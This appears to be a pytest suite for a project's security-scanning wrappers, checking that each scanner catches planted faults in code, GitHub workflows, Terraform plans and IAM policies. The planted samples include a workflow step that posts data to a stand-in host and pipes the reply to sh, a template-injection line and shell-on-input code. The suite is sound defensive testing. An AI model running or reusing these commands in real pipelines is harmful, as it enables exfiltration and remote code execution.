"""Every scanner finds something planted."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pathtolive.cli import CommandError
from pathtolive.scanning import findings, scanners

pytestmark = pytest.mark.long

KEY_LINES = [
    "aws_access_key_id = AKIA" + "Z7Q3KD2M5XWV4TYB",
    "aws_secret_access_key = " + "q3Jx8vKp2mN5tR7w" + "Y1zB4cD6fG9hL0sAeUiOkTnM",
]
WORKFLOW = """name: Sample
on: issue_comment
permissions: {}
concurrency: {group: sample, cancel-in-progress: true}
jobs:
  job:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - run: RUN
"""
DOCUMENT = """data "aws_iam_policy_document" "this" {
  statement {
    effect    = "EFFECT"
    actions   = ["ACTION"]
    resources = ["arn:aws:sns:eu-west-2:000000000000:topic"]
  }
}
"""


def rules(found: list[findings.Finding]) -> set[tuple[str, str]]:
    return {(each.rule, each.place) for each in found}


def write(root: Path, name: str, text: str) -> None:
    (root / name).parent.mkdir(parents=True, exist_ok=True)
    (root / name).write_text(text)


def test_bandit_finds_a_shell_that_runs_an_input(tmp_path: Path) -> None:
    for directory in scanners.CODE:
        write(tmp_path, f"{directory}/good.py", "print(1)\n")
    write(tmp_path, "lambda/bad.py", "import os, sys\n\nos.system(sys.argv[1])\n")
    assert rules(scanners.bandit(tmp_path)) == {("B605", "lambda/bad.py")}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("echo ${{ github.event.comment.body }}", "template-injection"),
        ("echo ${{ github.event.comment.boddy", "expression-syntax"),
        ("cat $FILE", "shellcheck"),
    ],
    ids=["injection", "syntax", "script"],
)
def test_jactionlint_finds_an_injection_and_errors(tmp_path: Path, text: str, rule: str) -> None:
    (tmp_path / ".git").mkdir()
    write(tmp_path, ".github/workflows/sample.yml", WORKFLOW.replace("RUN", "echo 1"))
    assert scanners.jactionlint(tmp_path) == []
    write(tmp_path, ".github/workflows/sample.yml", WORKFLOW.replace("RUN", text))
    found = scanners.jactionlint(tmp_path)
    assert {each.place for each in found} == {".github/workflows/sample.yml"}
    assert rule in {each.rule for each in found}, found


def test_checkov_finds_faults_in_terraform_workflows_and_secrets(tmp_path: Path) -> None:
    write(tmp_path, "terraform/main.tf", 'resource "aws_cloudwatch_log_group" "this" {\n  name = "log"\n}\n')
    write(tmp_path, "terraform/bootstrap/policies.tf", DOCUMENT.replace("ACTION", "sns:*").replace("EFFECT", "Allow"))
    write(tmp_path, ".github/workflows/sample.yml", WORKFLOW.replace("RUN", 'curl -d "$X" https://x.example | sh'))
    write(tmp_path, "docs/notes.md", "\n".join(KEY_LINES) + "\n")
    write(tmp_path, ".local/state", "\n".join(KEY_LINES) + "\n")
    found = rules(scanners.checkov(tmp_path))
    # A log group without retention, and permissions with a wildcard.
    assert {("CKV_AWS_66", "aws_cloudwatch_log_group.this"), ("CKV_PTL_1", "aws_iam_policy_document.this")} <= found
    assert ("CKV_SECRET_2", "docs/notes.md") in found
    assert not [place for _, place in found if ".local" in place]


@pytest.mark.parametrize(("effect", "action"), [("Allow", "sns:Publish"), ("Deny", "sns:*")])
def test_permissions_without_a_wildcard_and_refusals_pass(tmp_path: Path, effect: str, action: str) -> None:
    write(tmp_path, "terraform/main.tf", DOCUMENT.replace("ACTION", action).replace("EFFECT", effect))
    assert "CKV_PTL_1" not in {rule for rule, _ in rules(scanners.checkov(tmp_path))}


def planned(
    kind: str, values: dict[str, Any], *, before: Any = None, actions: tuple[str, ...] = ("create",)
) -> dict[str, Any]:
    """Return a resource of a plan with its change."""
    address = {"address": f"{kind}.this", "mode": "managed", "type": kind, "name": "this"}
    return {**address, "change": {"actions": list(actions), "before": before, "after": values}}


def plan(*changes: dict[str, Any]) -> dict[str, Any]:
    """Return a plan of resources, each with an address of its own."""
    made = [
        change | {"address": f"{change['type']}.number_{number}", "name": f"number_{number}"}
        for number, change in enumerate(changes)
    ]
    resources = [
        {name: change[name] for name in ("address", "mode", "type", "name")} | {"values": change["change"]["after"]}
        for change in made
        if change["change"]["actions"] != ["delete"]
    ]
    return {
        "format_version": "1.2",
        "terraform_version": "1.11.4",
        "planned_values": {"root_module": {"resources": resources}},
        "resource_changes": made,
        "configuration": {"root_module": {}},
    }


ALIAS = {"name": "live", "function_name": "f", "description": "", "function_version": "3", "routing_config": []}
PERMISSION = {"principal": "apigateway.amazonaws.com", "source_arn": "arn:aws:execute-api:eu-west-2:1:a/live/*"}
WEIGHTS = [{"additional_version_weights": {"4": 0.1}}]


def policy(action: str | list[str]) -> dict[str, Any]:
    allowed = {"Effect": "Allow", "Action": action, "Resource": "arn:aws:sns:eu-west-2:000000000000:topic"}
    return {"name": "p", "policy": json.dumps({"Version": "2012-10-17", "Statement": [allowed]})}


def moved(**values: Any) -> dict[str, Any]:
    return planned("aws_lambda_alias", ALIAS | values, before=ALIAS, actions=("update",))


BAD = [
    ("CKV_PTL_1", planned("aws_iam_role_policy", policy(["sns:Publish", "sns:Get*"]))),
    ("CKV_PTL_1", planned("aws_sns_topic_policy", policy("*"))),
    ("CKV_PTL_2", moved(function_version="4")),
    ("CKV_PTL_2", moved(routing_config=WEIGHTS)),
    ("CKV_PTL_3", planned("aws_lambda_function", {}, before={"function_name": "f"}, actions=("delete",))),
    ("CKV_PTL_3", planned("aws_sns_topic", {"name": "b"}, before={"name": "a"}, actions=("delete", "create"))),
    ("CKV_PTL_3", planned("aws_cloudwatch_log_group", {}, before={"name": "log"}, actions=("delete",))),
    ("CKV_PTL_4", planned("aws_lambda_permission", PERMISSION | {"principal": "*"})),
    ("CKV_PTL_4", planned("aws_lambda_permission", PERMISSION | {"source_arn": None})),
    ("CKV_PTL_4", planned("aws_lambda_function_url", {"function_name": "f", "authorization_type": "AWS_IAM"})),
    ("CKV_PTL_5", planned("aws_cloudwatch_log_group", {"name": "log", "retention_in_days": 0})),
]
GOOD = [
    planned("aws_iam_role_policy", policy(["sns:Publish"])),
    planned("aws_lambda_alias", ALIAS),
    moved(description="x"),
    planned("aws_lambda_permission", PERMISSION, before=PERMISSION, actions=("delete",)),
    planned("aws_lambda_permission", PERMISSION),
    planned("aws_sns_topic", {"name": "a"}, before={"name": "b"}, actions=("update",)),
    planned("aws_cloudwatch_log_group", {"name": "log", "retention_in_days": 30}),
]


def own(found: list[findings.Finding]) -> list[tuple[str, str]]:
    return sorted((each.rule, each.place) for each in found if each.rule.startswith("CKV_PTL_"))


def test_rules_of_our_own_find_their_faults_in_a_plan() -> None:
    made = plan(*(change for _, change in BAD))
    places = [change["address"] for change in made["resource_changes"]]
    found = scanners.plan(made)
    assert own(found) == sorted(zip([rule for rule, _ in BAD], places, strict=True))
    # checkov's rules scan what a plan leaves.
    assert places[7] in {each.place for each in found if each.rule == "CKV_AWS_301"}
    assert {each.rule for each in found if each.place == places[6]} == {"CKV_PTL_3"}


def test_rules_of_our_own_accept_a_plan_without_their_faults() -> None:
    assert own(scanners.plan(plan(*GOOD))) == []


@pytest.mark.parametrize(
    ("statement", "found"),
    [
        ({"Action": "s3:GetObjet", "Resource": "arn:aws:s3:::b/*"}, ("parliament", "UNKNOWN_ACTION")),
        (
            {"Action": "s3:GetObject", "Resource": "arn:aws:sns:eu-west-2:000000000000:t"},
            ("parliament", "RESOURCE_MISMATCH"),
        ),
        ({"Action": "s3:*", "Resource": "*"}, ("cloudsplaining", "ServiceWildcard")),
        ({"Action": "iam:CreateAccessKey", "Resource": "*"}, ("cloudsplaining", "PrivilegeEscalation")),
        (
            {"Action": "sns:Publish", "Resource": "arn:aws:sns:eu-west-2:000000000000:t", "Principal": {"AWS": "*"}},
            ("cloudsplaining", "InternetAccessible"),
        ),
    ],
    ids=["action", "resource", "wildcard", "escalation", "public"],
)
def test_policies_find_faults_of_a_document(statement: dict[str, Any], found: tuple[str, str]) -> None:
    document = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", **statement}]}
    made = plan(planned("aws_iam_role_policy", {"policy": json.dumps(document)}))
    assert found in {(each.scanner, each.rule) for each in scanners.policies(made)}


def test_policies_find_faults_of_a_trust_policy() -> None:
    statement = {"Effect": "Allow", "Action": "sts:AssumeRoll", "Principal": {"Service": "lambda.amazonaws.com"}}
    document = {"Version": "2012-10-17", "Statement": [statement]}
    found = scanners.policies(plan(planned("aws_iam_role", {"assume_role_policy": json.dumps(document)})))
    assert rules(found) == {("UNKNOWN_ACTION", "aws_iam_role.number_0.assume_role_policy")}


@pytest.fixture
def program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, str], None]:
    """Return a function that puts a shell script in the place of a scanner."""

    def make(name: str, script: str) -> None:
        (tmp_path / name).write_text(f"#!/bin/sh\n{script}\n")
        (tmp_path / name).chmod(0o755)
        monkeypatch.setattr(scanners, "BIN", tmp_path)

    return make


def test_audit_names_each_vulnerability_and_its_lock_file(program: Callable[[str, str], None]) -> None:
    vulnerability = {"id": "PYSEC-1", "description": "Remote", "aliases": [], "fix_versions": ["2"]}
    report = {"dependencies": [{"name": "a", "version": "1", "vulns": [vulnerability]}], "fixes": []}
    program("pip-audit", f"echo '{json.dumps(report)}'; exit 1")
    found = scanners.audit()
    assert {each.place for each in found} >= {"requirements/run.txt", "requirements/scan.txt"}
    assert {str(each).replace(each.place, "") for each in found} == {"pip-audit PYSEC-1 : a 1: Remote"}


@pytest.mark.parametrize("script", ["echo 'Traceback\nNo route to host' >&2; exit 1", "exit 0"])
def test_audit_without_an_answer_fails(program: Callable[[str, str], None], script: str) -> None:
    program("pip-audit", script)
    with pytest.raises(CommandError, match=r"(No route to host|no output)\nThe audit needs the internet"):
        scanners.audit()


def test_scanner_that_fails_fails_the_scan(program: Callable[[str, str], None]) -> None:
    program("bandit", "echo '{}'; exit 2")
    with pytest.raises(CommandError, match="bandit failed with status 2"):
        scanners.bandit()


def test_scanners_get_no_credentials(program: Callable[[str, str], None], monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"):
        monkeypatch.setenv(name, "secret")
    program("jactionlint", 'env | grep secret && exit 2; echo "[]"')
    assert scanners.jactionlint() == []


def test_file_that_cannot_be_read_fails_the_scan(tmp_path: Path) -> None:
    write(tmp_path, "terraform/main.tf", 'resource "aws_sns_topic" {{{\n')
    with pytest.raises(CommandError, match="checkov cannot read what it scans"):
        scanners.checkov(tmp_path)


def test_plan_that_checkov_does_not_understand_fails_the_scan() -> None:
    made = plan(GOOD[0])
    with pytest.raises(CommandError, match="checkov cannot read what it scans"):
        scanners.plan(made | {"planned_values": {"root_module": {}}})


def test_plan_without_changes_has_no_findings() -> None:
    assert scanners.plan({}) == scanners.policies({}) == []
